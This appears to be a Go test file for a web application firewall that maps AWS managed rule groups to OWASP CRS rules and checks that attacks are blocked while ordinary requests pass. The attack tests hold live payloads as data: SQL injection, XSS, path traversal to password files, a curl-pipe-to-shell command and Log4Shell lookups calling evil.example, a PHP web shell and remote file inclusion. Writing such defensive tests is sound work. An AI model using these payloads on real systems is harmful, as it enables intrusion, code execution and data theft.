package managed

import (
	"bytes"
	"context"
	"errors"
	"io"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// awsGroups are the AWS names New supports.
var awsGroups = []string{
	"AWSManagedRulesCommonRuleSet",
	"AWSManagedRulesSQLiRuleSet",
	"AWSManagedRulesKnownBadInputsRuleSet",
	"AWSManagedRulesLinuxRuleSet",
	"AWSManagedRulesUnixRuleSet",
	"AWSManagedRulesWindowsRuleSet",
	"AWSManagedRulesPHPRuleSet",
}

func TestNewRefuses(t *testing.T) {
	tests := []struct {
		name string
		o    Options
		want []string // substrings of the error
	}{
		{"unknown vendor", Options{Vendor: "Fortinet", Name: "X"}, []string{`"Fortinet"`, "AWS/AWSManagedRulesSQLiRuleSet"}},
		{"unknown name", Options{Vendor: "AWS", Name: "AWSManagedRulesBotControlRuleSet"}, []string{"AWSManagedRulesBotControlRuleSet", "unknown managed rule group"}},
		{"ip reputation has no CRS equivalent", Options{Vendor: "AWS", Name: "AWSManagedRulesAmazonIpReputationList"}, []string{"AWSManagedRulesAmazonIpReputationList"}},
		{"version", Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet", Version: "Version_2.0"}, []string{`"Version_2.0"`, CRSVersion}},
		{"paranoia 5", Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet", ParanoiaLevel: 5}, []string{"paranoia level 5"}},
		{"paranoia negative", Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet", ParanoiaLevel: -1}, []string{"paranoia level -1"}},
		{"body limit", Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet", BodyLimit: 1 << 20}, []string{"body limit 1048576"}},
		{"excluded rule of another group", Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet", ExcludedRules: []string{"942100", "941100", "SQLi_BODY"}}, []string{`"941100"`, `"SQLi_BODY"`, "ExcludedRules"}},
		{"windows rule in the unix group", Options{Vendor: "AWS", Name: "AWSManagedRulesUnixRuleSet", ExcludedRules: []string{"932370"}}, []string{`"932370"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := New(tt.o)
			if err == nil {
				t.Fatal("New accepted it")
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not name %s", err, w)
				}
			}
			if strings.Contains(tt.name, "unknown") && !errors.Is(err, ErrUnknownGroup) {
				t.Errorf("error %q is not ErrUnknownGroup", err)
			}
		})
	}
}

func TestGroupsAreSharedPerOptions(t *testing.T) {
	a := mustNew(t, Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet"})
	b := mustNew(t, Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet", ParanoiaLevel: 1, BodyLimit: DefaultBodyLimit, Version: CRSVersion})
	c := mustNew(t, Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet", ParanoiaLevel: 2})
	if a != b {
		t.Error("equal options (defaults spelt out) built two groups")
	}
	if a == c || a.waf == c.waf {
		t.Error("paranoia levels 1 and 2 share a WAF")
	}
	if o := a.Options(); o.ParanoiaLevel != 1 || o.BodyLimit != DefaultBodyLimit {
		t.Errorf("defaults not filled in: %+v", o)
	}
	// Each AWS group has its own rules; the Unix and Windows groups split
	// CRS's RCE file by platform.
	unix := mustNew(t, Options{Vendor: "AWS", Name: "AWSManagedRulesUnixRuleSet"}).Rules()
	win := mustNew(t, Options{Vendor: "AWS", Name: "AWSManagedRulesWindowsRuleSet"}).Rules()
	if !slices.Contains(unix, "932160") || slices.Contains(win, "932160") {
		t.Error("932160 (Unix shell code) should be in the Unix group only")
	}
	if !slices.Contains(win, "932370") || slices.Contains(unix, "932370") {
		t.Error("932370 (Windows command injection) should be in the Windows group only")
	}
	if r := a.Rules(); !slices.Contains(r, "942100") || slices.Contains(r, "949110") || slices.Contains(r, "942011") {
		t.Errorf("SQLi rules: want detection rules only (942100 in; 949110 and the paranoia skip 942011 out), got %d rules", len(r))
	}
}

// request is one HTTP request a test sends.
type request struct {
	name   string
	method string
	target string // path?query, sent as is
	header http.Header
	body   []byte
}

// browser returns headers like a current Firefox's, plus extra.
func browser(extra ...string) http.Header {
	h := http.Header{
		"User-Agent":      {"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"},
		"Accept":          {"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
		"Accept-Language": {"en-US,en;q=0.5"},
		"Accept-Encoding": {"gzip, deflate, br, zstd"},
		"Referer":         {"https://shop.example.com/"},
		"Sec-Fetch-Dest":  {"document"},
		"Sec-Fetch-Mode":  {"navigate"},
		"Sec-Fetch-Site":  {"same-origin"},
		"Cookie":          {"_ga=GA1.2.1234567890.1733140000; consent=analytics%3Dtrue%2Cads%3Dfalse; session=8f14e45fceea167a5a36dedd4bea2543"},
	}
	for i := 0; i+1 < len(extra); i += 2 {
		h.Set(extra[i], extra[i+1])
	}
	return h
}

// send sends r to addr with Host shop.example.com and returns the status
// and the rules that blocked it.
func send(t *testing.T, addr string, r request) (int, []string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	method := r.method
	if method == "" {
		method = http.MethodGet
	}
	req, err := http.NewRequestWithContext(ctx, method, "http://"+addr+"/", bytes.NewReader(r.body))
	if err != nil {
		t.Fatal(err)
	}
	req.URL.Opaque = r.target // send the target exactly as written
	req.Host = "shop.example.com"
	if r.body == nil {
		req.Body, req.ContentLength = nil, 0
	}
	for k, vs := range r.header {
		req.Header[k] = vs
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	io.Copy(io.Discard, resp.Body)
	return resp.StatusCode, strings.Fields(resp.Header.Get("X-Blocked-By"))
}

func formBody(kv ...string) []byte {
	v := url.Values{}
	for i := 0; i+1 < len(kv); i += 2 {
		v.Add(kv[i], kv[i+1])
	}
	return []byte(v.Encode())
}

// allAWSGroups is a web ACL's worth of managed groups at paranoia level 1.
func allAWSGroups(t *testing.T) []*Group {
	var gs []*Group
	for _, n := range awsGroups {
		gs = append(gs, mustNew(t, Options{Vendor: "AWS", Name: n}))
	}
	return gs
}

// TestAttacksAreBlocked sends real attacks through Strata's HTTP/1 server
// to the AWS groups at paranoia level 1: each is blocked, by a rule of the
// CRS file that covers its kind.
func TestAttacksAreBlocked(t *testing.T) {
	addr := serve(t, wafHandler(t, allAWSGroups(t)...))
	form := browser("Content-Type", "application/x-www-form-urlencoded")
	json := browser("Content-Type", "application/json", "Accept", "application/json")
	tests := []struct {
		request
		file string // CRS file number of a rule that must be among the blockers
	}{
		{request{name: "sqli in query", target: "/products?id=1%27%20OR%20%271%27=%271", header: browser()}, "942"},
		{request{name: "sqli union in query", target: "/item?id=-1+UNION+SELECT+username,password+FROM+users--", header: browser()}, "942"},
		{request{name: "sqli in form body", method: "POST", target: "/login", header: form, body: formBody("user", "admin'--", "pass", "x' or 1=1 -- ")}, "942"},
		{request{name: "sqli in json body", method: "POST", target: "/api/login", header: json, body: []byte(`{"user":"admin","pass":"' OR '1'='1' -- "}`)}, "942"},
		{request{name: "sqli in cookie", target: "/", header: browser("Cookie", "id=1; SELECT * FROM users WHERE 1=1; DROP TABLE users")}, "942"},
		{request{name: "sqli time based", target: "/?q=1%27+AND+SLEEP(5)--+-", header: browser()}, "942"},
		{request{name: "xss script tag", target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", header: browser()}, "941"},
		{request{name: "xss event handler", target: "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", header: browser()}, "941"},
		{request{name: "xss in json body", method: "POST", target: "/api/comments", header: json, body: []byte(`{"comment":"<svg/onload=alert(1)>"}`)}, "941"},
		{request{name: "path traversal in query", target: "/download?file=../../../../etc/passwd", header: browser()}, "930"},
		{request{name: "path traversal encoded in path", target: "/static/..%2f..%2f..%2f..%2fetc%2fshadow", header: browser()}, "930"},
		{request{name: "windows path traversal", target: "/download?file=..%5c..%5c..%5cwindows%5cwin.ini", header: browser()}, "930"},
		{request{name: "unix command injection", target: "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", header: browser()}, "932"},
		{request{name: "unix command substitution", method: "POST", target: "/api/ping", header: form, body: formBody("host", "$(curl http://evil.example/x.sh | sh)")}, "932"},
		{request{name: "windows powershell", target: "/run?cmd=powershell.exe%20-NoProfile%20-EncodedCommand%20SQBFAFgA", header: browser()}, "932"},
		{request{name: "log4shell in user-agent", target: "/", header: browser("User-Agent", "${jndi:ldap://evil.example:1389/Exploit}")}, "944"},
		{request{name: "log4shell obfuscated in header", target: "/", header: browser("X-Api-Version", "${${lower:j}ndi:${lower:l}dap://evil.example/a}")}, "944"},
		{request{name: "log4shell in query", target: "/?x=%24%7Bjndi%3Armi%3A%2F%2Fevil.example%2Fa%7D", header: browser()}, "944"},
		{request{name: "java runtime exec", target: "/?x=java.lang.Runtime.getRuntime().exec(%22id%22)", header: browser()}, "944"},
		{request{name: "spring4shell", method: "POST", target: "/", header: form, body: formBody("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i")}, "944"},
		{request{name: "trace method", method: "TRACE", target: "/", header: browser()}, "911"},
		{request{name: "php injection", target: "/?page=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E", header: browser()}, "933"},
		{request{name: "php wrapper", target: "/?file=php://filter/convert.base64-encode/resource=index.php", header: browser()}, "933"},
		{request{name: "remote file inclusion", target: "/?page=http://203.0.113.9/shell.txt%3F", header: browser()}, "931"},
		{request{name: "scanner user-agent", target: "/", header: browser("User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)")}, "913"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			status, by := send(t, addr, tt.request)
			if status != http.StatusForbidden {
				t.Fatalf("status %d, want 403 (not blocked)", status)
			}
			if !slices.ContainsFunc(by, func(r string) bool { return strings.HasPrefix(r, tt.file) }) {
				t.Errorf("blocked by %v, want a %sxxx rule among them", by, tt.file)
			}
		})
	}
}

// TestOrdinaryRequestsPass sends the requests of a normal site and API
// through the same groups: none is blocked at paranoia level 1.
func TestOrdinaryRequestsPass(t *testing.T) {
	addr := serve(t, wafHandler(t, allAWSGroups(t)...))
	json := browser("Content-Type", "application/json", "Accept", "application/json", "Sec-Fetch-Dest", "empty", "Sec-Fetch-Mode", "cors")
	form := browser("Content-Type", "application/x-www-form-urlencoded", "Origin", "https://shop.example.com")

	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	mw.WriteField("title", "Holiday photo, beach at sunset")
	mw.WriteField("tags", "holiday,beach,2026")
	ph := textproto.MIMEHeader{}
	ph.Set("Content-Disposition", `form-data; name="file"; filename="IMG_2041.jpg"`)
	ph.Set("Content-Type", "image/jpeg")
	fw, _ := mw.CreatePart(ph)
	jpeg := append([]byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"), bytes.Repeat([]byte{0x12, 0x9a, 0xfe, 0x00, 0x41, 0x7f}, 900)...)
	fw.Write(append(jpeg, 0xff, 0xd9))
	mw.Close()
	upload := browser("Content-Type", mw.FormDataContentType())

	tests := []request{
		{name: "home page", target: "/", header: browser()},
		{name: "search with query string", target: "/search?q=how+to+cook+pasta&page=2&sort=price_asc", header: browser()},
		{name: "product listing with tracking params", target: "/products?category=shoes&size=42&color=red&utm_source=newsletter&utm_medium=email&utm_campaign=winter-sale", header: browser()},
		{name: "name with apostrophe", target: "/people?name=O%27Brien&city=Dublin", header: browser()},
		{name: "static asset", target: "/assets/app.3f9a2c.js?v=2", header: browser("Accept", "*/*", "Sec-Fetch-Dest", "script")},
		{name: "conditional range request", target: "/video/intro.mp4", header: browser("Range", "bytes=0-1048575", "If-None-Match", `"5f3c-1a2b"`, "If-Modified-Since", "Tue, 01 Dec 2026 10:00:00 GMT")},
		{name: "api list with fields", target: "/api/v1/items?ids=1,2,3&fields=name,price,stock&limit=50&offset=100", header: json},
		{name: "api json order", method: "POST", target: "/api/v1/orders", header: json,
			body: []byte(`{"items":[{"sku":"A-123","qty":2},{"sku":"B-77","qty":1}],"shipping":{"name":"Jane Doe","street":"12 Rue de la Paix","city":"Paris","zip":"75002"},"note":"Please leave it at the door, thanks!","email":"jane@example.com"}`)},
		{name: "api json profile unicode", method: "PUT", target: "/api/v1/profile", header: json,
			body: []byte(`{"name":"Zoë Ångström","bio":"I like Go, Rust and coffee - and long walks.","links":["https://example.org/zoe"],"age":34,"newsletter":true}`)},
		{name: "api json search", method: "POST", target: "/api/v1/search", header: json,
			body: []byte(`{"query":"red running shoes","filters":{"price":{"min":20,"max":120},"brand":["Acme","Zoom"]},"sort":"relevance","page":1}`)},
		{name: "login form", method: "POST", target: "/login", header: form, body: formBody("username", "jane.doe", "password", "S3cure-Passw0rd", "remember", "on")},
		{name: "contact form", method: "POST", target: "/contact", header: form, body: formBody("name", "Jane", "email", "jane@example.com", "message", "Hello! I'd like to know when the blue model is back in stock. Thanks a lot.")},
		{name: "multipart photo upload", method: "POST", target: "/upload", header: upload, body: mp.Bytes()},
		{name: "api json patch", method: "PATCH", target: "/api/v1/cart/items/9f2c", header: json, body: []byte(`{"qty":3}`)},
		{name: "binary upload", method: "PUT", target: "/uploads/backup-2026-12-01.tar.gz", header: browser("Content-Type", "application/octet-stream"), body: bytes.Repeat([]byte{0x1f, 0x8b, 0x08, 0x00, 0xde, 0xad, 0xbe, 0xef}, 512)},
		{name: "delete with id", method: "DELETE", target: "/api/v1/cart/items/9f2c", header: json},
		{name: "options preflight", method: "OPTIONS", target: "/api/v1/orders", header: browser("Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "content-type", "Origin", "https://app.example.com")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			status, by := send(t, addr, tt)
			if status != http.StatusOK {
				t.Errorf("status %d, blocked by %v: a false positive", status, by)
			}
		})
	}
}

// TestExcludedRules removes the one rule that blocks a request: it passes.
func TestExcludedRules(t *testing.T) {
	nikto := request{target: "/", header: browser("User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)")}
	g := mustNew(t, Options{Vendor: "AWS", Name: "AWSManagedRulesCommonRuleSet"})
	if status, by := send(t, serve(t, wafHandler(t, g)), nikto); status != http.StatusForbidden || !slices.Equal(by, []string{"913100"}) {
		t.Fatalf("without exclusion: status %d by %v, want 403 by [913100]", status, by)
	}
	g2 := mustNew(t, Options{Vendor: "AWS", Name: "AWSManagedRulesCommonRuleSet", ExcludedRules: []string{"913100"}})
	if status, by := send(t, serve(t, wafHandler(t, g2)), nikto); status != http.StatusOK {
		t.Fatalf("with 913100 excluded: status %d by %v, want 200", status, by)
	}
}

// TestBodyLimit: a body is inspected up to the limit and no further; a body
// cut at the limit is not refused for failing to parse, a whole malformed
// one is.
func TestBodyLimit(t *testing.T) {
	form := browser("Content-Type", "application/x-www-form-urlencoded")
	json := browser("Content-Type", "application/json")
	filler := "pad=" + strings.Repeat("a", 20<<10)
	late := request{method: "POST", target: "/f", header: form, body: []byte(filler + "&q=1%27%20UNION%20SELECT%20password%20FROM%20users--")}

	def := serve(t, wafHandler(t, mustNew(t, Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet"})))
	big := serve(t, wafHandler(t, mustNew(t, Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet", BodyLimit: 32 << 10})))
	if status, by := send(t, def, late); status != http.StatusOK {
		t.Errorf("sqli after 20 KiB with the 16 KiB default: status %d by %v, want 200 (not inspected)", status, by)
	}
	if status, _ := send(t, big, late); status != http.StatusForbidden {
		t.Errorf("sqli after 20 KiB with a 32 KiB limit: status %d, want 403", status)
	}
	var items []string
	for range 800 {
		items = append(items, `{"sku":"A-123","qty":2,"note":"gift wrap"}`)
	}
	longJSON := request{method: "POST", target: "/api", header: json, body: []byte(`{"items":[` + strings.Join(items, ",") + `]}`)}
	if len(longJSON.body) <= DefaultBodyLimit {
		t.Fatal("test body too short")
	}
	if status, by := send(t, def, longJSON); status != http.StatusOK {
		t.Errorf("valid JSON longer than the limit: status %d by %v, want 200", status, by)
	}
	broken := request{method: "POST", target: "/api", header: json, body: []byte(`{"items":[{"sku":"A-123",`)}
	if status, by := send(t, def, broken); status != http.StatusForbidden || !slices.Contains(by, "200002") {
		t.Errorf("whole malformed JSON: status %d by %v, want 403 by 200002", status, by)
	}
}

// TestParanoiaLevel: a request that only a paranoia level 2 rule catches
// passes at level 1 and is blocked at level 2.
func TestParanoiaLevel(t *testing.T) {
	r := request{target: "/?id=1%20OR%20true", header: browser()}
	pl1 := serve(t, wafHandler(t, mustNew(t, Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet", ParanoiaLevel: 1})))
	pl2 := serve(t, wafHandler(t, mustNew(t, Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet", ParanoiaLevel: 2})))
	if status, by := send(t, pl1, r); status != http.StatusOK {
		t.Errorf("paranoia 1: status %d by %v, want 200", status, by)
	}
	if status, by := send(t, pl2, r); status != http.StatusForbidden {
		t.Errorf("paranoia 2: status %d by %v, want 403", status, by)
	}
}

// TestConcurrentInspect shares one group between goroutines (run with
// -race): every answer is the one a lone request gets.
func TestConcurrentInspect(t *testing.T) {
	g := mustNew(t, Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet"})
	bad := Input{Method: "GET", URI: "/?id=1%27%20OR%20%271%27=%271", Proto: "HTTP/1.1", Host: "shop.example.com", Header: browser()}
	good := Input{Method: "GET", URI: "/?id=42", Proto: "HTTP/1.1", Host: "shop.example.com", Header: browser()}
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Go(func() {
			for j := range 20 {
				in, want := good, false
				if (i+j)%2 == 0 {
					in, want = bad, true
				}
				if got := len(g.Inspect(in)) > 0; got != want {
					t.Errorf("goroutine %d request %d: blocked=%v, want %v", i, j, got, want)
					return
				}
			}
		})
	}
	wg.Wait()
}

// FuzzEvaluate feeds viewer-controlled parts of a request to the SQLi group
// (Coraza parses the URI, headers and body): no panic, the same answer for
// the same request, and Inspect returns matches exactly when it blocks.
func FuzzEvaluate(f *testing.F) {
	f.Add("/?id=1%27%20OR%201=1--", "application/x-www-form-urlencoded", []byte("a=1&b=2"))
	f.Add("/x?%zz=%", "application/json", []byte(`{"a":[1,{"b":"' or 1=1"}]}`))
	f.Add("/%00/../a;b?c=d#e", "multipart/form-data; boundary=x", []byte("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--\r\n"))
	f.Add("*", "text/xml", []byte("<a><b>select * from t</b></a>"))
	g := mustNew(f, Options{Vendor: "AWS", Name: "AWSManagedRulesSQLiRuleSet"})
	f.Fuzz(func(t *testing.T, uri, ctype string, body []byte) {
		in := Input{Method: "POST", URI: uri, Proto: "HTTP/1.1", Host: "a.example",
			Header: http.Header{"Content-Type": {ctype}, "User-Agent": {"fuzz"}}, Body: body}
		r1, r2 := g.Evaluate(in), g.Evaluate(in)
		if r1.Blocked != r2.Blocked || len(r1.Matches) != len(r2.Matches) {
			t.Fatalf("two answers for one request: %+v, %+v", r1, r2)
		}
		if m := g.Inspect(in); (m != nil) != r1.Blocked {
			t.Fatalf("Inspect %v, Blocked %v", m, r1.Blocked)
		}
	})
}
